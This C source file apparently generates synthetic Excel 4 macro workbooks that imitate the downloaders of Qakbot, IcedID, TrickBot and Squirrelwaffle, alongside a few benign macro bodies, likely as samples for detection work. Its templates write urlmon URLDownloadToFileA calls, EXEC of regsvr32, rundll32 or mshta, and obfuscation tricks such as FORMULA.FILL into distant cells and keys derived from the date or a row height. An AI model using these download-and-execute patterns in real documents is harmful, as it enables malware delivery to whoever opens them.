/* Eras whose workbooks carried Excel 4 macros: what they do, formula by formula. */
#include <string.h>

#include "make/replica_eras.h"
#include "make/replica_xlm.h"

static replica_book any_book(replica *r) { return (replica_book)replica_below(r, 3); }

/* A key that characters are moved by: the day of the month, or the height of a row. */
static void set_key(replica_xlm *x, replica_xlm_key key)
{
    replica *r = x->writer.r;
    replica_xlm_sheet *s = &x->sheets[2];
    x->key = REPLICA_NO_KEY;
    x->key_name = replica_name(r);
    if (key == REPLICA_NO_KEY) return;
    x->names[x->name_count++] = x->key_name;
    if (key == REPLICA_DAY_KEY) {
        x->key_value = replica_between(r, 1, 28);
        replica_xlm_write(x, sk_text_format(r->a, "SET.NAME(\"%s\",DAY(NOW()))\n", x->key_name));
    } else {
        s->tall_row = replica_between(r, 1, 40);
        x->key_value = replica_between(r, 16, 60);
        s->twips = x->key_value * 20;
        s->cells[s->count++] = (replica_xlm_cell){.row = s->tall_row, .column = 3, .text = "total"};
        replica_xlm_write(
            x, sk_text_format(r->a, "SET.NAME(\"%s\",GET.CELL(17,%s!$D$%u))\n", x->key_name, s->name, s->tall_row + 1));
    }
    x->key = key;
}

/* One formula, as it is or written into a cell by another one. */
static void act(replica_xlm *x, const char *formula, bool written)
{
    replica *r = x->writer.r;
    if (!written) {
        replica_xlm_write(x, sk_text_format(r->a, "%s\n", formula));
        return;
    }
    /* FORMULA.FILL puts it some cells below, where the program comes to it; its texts are put together before. */
    sk_bytes doubled = replica_replaced(r, sk_bytes_str(formula), "`", "\"");
    static const char *const ways[] = {"FORMULA.FILL", "FORMULA"};
    unsigned column = x->column, sheet = x->macro;
    r->spare = sk_text_bytes(r->a, "=%.*s", (int)doubled.len, (const char *)doubled.p);
    unsigned from = x->row;
    (void)from;
    /* Texts hidden by names come as statements in front: the place is left open, far enough down. */
    unsigned row = x->row + 60 + replica_below(r, 20);
    replica_xlm_write(x, sk_text_format(r->a, "%s(`\x02`,%s!$%c%s$%u)\n", REPLICA_PICK(r, ways), x->sheets[sheet].name,
                                        column < 26 ? 'A' + (int)column : 'A',
                                        column < 26 ? "" : sk_text_format(r->a, "%c", 'A' + (int)column - 26), row + 1));
    if (x->row <= row) x->row = row + 1;
}

static const char *path_of_library(replica *r)
{
    static const char *const folders[] = {"..", "C:\\ProgramData", "C:\\Users\\Public"};
    return REPLICA_PICK(r, folders);
}

/* Each address is tried where the one before failed. */
static void fetch_all(replica_xlm *x, bool nested, bool written)
{
    replica *r = x->writer.r;
    for (size_t i = 0; i < r->out->address_count; i++) {
        const char *call = sk_text_format(r->a, "CALL(`urlmon`,`URLDownloadToFileA`,`JJCCBB`,0,`%s`,`%s`,0,0)",
                                          r->out->addresses[i], r->path);
        const char *next = NULL;
        if (nested && i + 1 < r->out->address_count && !written)
            next = sk_text_format(r->a, "CALL(`urlmon`,`URLDownloadToFileA`,`JJCCBB`,0,`%s`,`%s`,0,0)", r->out->addresses[i + 1],
                                  r->path);
        if (next) {
            act(x, sk_text_format(r->a, "IF(%s<0,%s)", call, next), false);
            i++;
        } else {
            act(x, call, written);
        }
        if (replica_odds(r, 25)) replica_xlm_jump(x);
    }
}

static void downloader(replica *r, replica_book book, replica_xlm_key key, bool written, bool white, unsigned addresses)
{
    replica_xlm *x = SK_NEW(r->a, replica_xlm);
    replica_xlm_start(x, r, book);
    x->white = white;
    set_key(x, key);
    replica_addresses(r, addresses);
    replica_keep(r, path_of_library(r), replica_odds(r, 60) ? "ocx" : "dll");
    (void)replica_command(r, replica_odds(r, 60) ? REPLICA_REGSVR32 : REPLICA_RUNDLL32);
    if (replica_odds(r, 40)) r->out->command = sk_text_format(r->a, "C:\\Windows\\SysWow64\\%s", r->out->command);
    replica_xlm_write(x, "%junk%\n");
    fetch_all(x, replica_odds(r, 50), written);
    act(x, sk_text_format(r->a, replica_odds(r, 80) ? "EXEC(`%s`)" : "IF(1=1,EXEC(`%s`),HALT())", r->out->command), written);
    replica_xlm_write(x, replica_odds(r, 50) ? "HALT()\n" : "RETURN()\n");
    replica_xlm_finish(x);
}

/* mshta with an address whose host is one number: 192.0.2.0/24 and its kin are kept for documentation (RFC 5737). */
void replica_era_xlm_mshta(replica *r)
{
    static const char *const networks[] = {"0xC00002", "0xC63364", "0xCB0071"};
    replica_xlm *x = SK_NEW(r->a, replica_xlm);
    replica_xlm_start(x, r, any_book(r));
    set_key(x, replica_odds(r, 30) ? REPLICA_DAY_KEY : REPLICA_NO_KEY);
    const char *address = sk_text_format(r->a, "http://%s%02x/%s/%s%u.html", REPLICA_PICK(r, networks),
                                         replica_between(r, 1, 254), replica_word(r), replica_word(r), replica_below(r, 9));
    if (replica_odds(r, 40)) {
        replica_addresses(r, 1);
        address = r->out->addresses[0];
    }
    r->out->addresses[0] = address;
    r->out->address_count = 1;
    r->out->command = sk_text_format(r->a, "%smshta%s %s", replica_odds(r, 40) ? "cmd /c " : "",
                                     replica_odds(r, 30) ? ".exe" : "", address);
    replica_xlm_write(x, "%junk%\n");
    if (replica_odds(r, 40)) replica_xlm_jump(x);
    act(x, sk_text_format(r->a, "EXEC(`%s`)", r->out->command), replica_odds(r, 40));
    replica_xlm_write(x, "HALT()\n");
    replica_xlm_finish(x);
}

void replica_era_xlm_download(replica *r)
{
    downloader(r, any_book(r), replica_odds(r, 25) ? REPLICA_DAY_KEY : REPLICA_NO_KEY, replica_odds(r, 40), false,
               replica_between(r, 2, 6));
}

void replica_era_xls_far_cells(replica *r)
{
    replica_xlm *x = SK_NEW(r->a, replica_xlm);
    replica_xlm_start(x, r, REPLICA_BOOK_XLS);
    x->far_off = 12000;
    x->light = replica_odds(r, 70);
    replica_addresses(r, replica_between(r, 3, 5));
    replica_keep(r, "..", "ocx");
    (void)replica_command(r, REPLICA_REGSVR32);
    replica_xlm_write(x, "%junk%\n");
    fetch_all(x, replica_odds(r, 60), replica_odds(r, 30));
    act(x, sk_text_format(r->a, "EXEC(`%s`)", r->out->command), replica_odds(r, 40));
    replica_xlm_write(x, "RETURN()\n");
    replica_xlm_finish(x);
}

void replica_era_squirrelwaffle_xls(replica *r)
{
    downloader(r, replica_odds(r, 50) ? REPLICA_BOOK_XLS : REPLICA_BOOK_XLSM, REPLICA_NO_KEY, true, false, 3);
}

void replica_era_icedid_xlm(replica *r)
{
    downloader(r, any_book(r), replica_odds(r, 50) ? REPLICA_HEIGHT_KEY : REPLICA_NO_KEY, replica_odds(r, 50), true,
               replica_between(r, 1, 3));
}

void replica_era_trickbot_xlsb(replica *r)
{
    downloader(r, REPLICA_BOOK_XLSB, replica_odds(r, 30) ? REPLICA_HEIGHT_KEY : REPLICA_NO_KEY, replica_odds(r, 50),
               replica_odds(r, 50), replica_between(r, 1, 4));
}

void replica_era_qakbot_xlm(replica *r)
{
    downloader(r, any_book(r), replica_odds(r, 60) ? REPLICA_DAY_KEY : REPLICA_HEIGHT_KEY, replica_odds(r, 60),
               replica_odds(r, 50), replica_between(r, 3, 8));
}

/* --- harmless ones --- */

void replica_era_office_xlm(replica *r)
{
    static const char *const bodies[] = {"SET.NAME(`total`,SUM(@sheet!$A$1,@sheet!$A$2))\nALERT(`The total is ready.`,2)\n",
                                         "IF(NOW()>45000,ALERT(`This list is out of date.`,2))\nCOLUMN.WIDTH(12)\n",
                                         "FORMAT.FONT(`Arial`,10)\nALIGNMENT(3)\nMESSAGE(TRUE,`Ready`)\n"};
    replica_xlm *x = SK_NEW(r->a, replica_xlm);
    replica_xlm_start(x, r, any_book(r));
    x->office = x->light = true;
    x->writer.junk_odds = 5;
    if (x->name_count == 0) x->names[x->name_count++] = "total";
    sk_bytes body = replica_replaced(r, sk_bytes_str(REPLICA_PICK(r, bodies)), "@sheet", x->sheets[1].name);
    replica_xlm_write(x, sk_arena_string(r->a, body));
    replica_xlm_write(x, "RETURN()\n");
    replica_xlm_finish(x);
}
